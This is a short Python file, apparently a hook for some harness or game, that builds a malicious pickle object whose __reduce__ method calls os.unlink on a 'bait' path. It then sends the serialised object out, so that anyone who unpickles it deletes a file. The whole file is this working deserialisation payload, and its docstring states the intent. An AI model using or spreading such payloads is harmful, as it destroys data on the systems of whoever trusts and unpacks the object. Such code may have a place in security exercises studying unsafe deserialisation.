"""Sends an object that would run code if anyone unpacked it."""

import base64
import os
import pickle

from lib import say


class Trap:
    def __init__(self, path):
        self.path = path

    def __reduce__(self):
        return os.unlink, (self.path,)


def on_observation(context):
    data = pickle.dumps(Trap(context.options["bait"]))
    context.memory.write("pickle", base64.b64encode(data).decode())
    say(data + b"\n")
